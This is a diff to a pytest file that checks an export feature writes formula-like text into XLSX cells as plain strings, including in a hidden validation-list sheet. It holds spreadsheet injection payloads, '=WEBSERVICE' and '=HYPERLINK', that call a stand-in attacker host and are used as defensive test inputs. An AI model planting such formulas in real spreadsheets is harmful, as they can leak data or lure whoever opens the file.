@@ -106,6 +106,14 @@ def test_formula_like_text_stays_text(demo_client):
     activity = first_activity(demo_client, "TECHEM-DK", limit=1)
     body = {"name": '=HYPERLINK("http://evil.example","click")', "description": "=1+1"}
     change_activity(demo_client, activity, **body)
+    # A custom term's label is register text too: it reaches the hidden sheet of the validation lists.
+    label = '=WEBSERVICE("http://evil.example")'
+    term = {
+        "vocabulary": "data_category",
+        "key": "meter_id",
+        "labels": {"en": label, "da": label, "nb": label},
+    }
+    assert demo_client.post("/api/vocabularies", json=term).status_code == 201
     content = http_export(demo_client, "TECHEM-DK", "xlsx", lang="en").content
     wb = _book(content)
     header, _ = _rows(wb["Activities"])
@@ -114,6 +122,8 @@ def test_formula_like_text_stays_text(demo_client):
     description = ws.cell(row=2, column=header.index("Description") + 1)
     assert name.data_type == "s" and name.value == body["name"]
     assert description.data_type == "s" and description.value == "=1+1"
+    listed = [c for row in wb["ropa-lists"].iter_rows() for c in row if c.value == label]
+    assert listed and all(c.data_type == "s" for c in listed)
     with zipfile.ZipFile(io.BytesIO(content)) as z:
         assert all("<f>" not in z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/"))
 
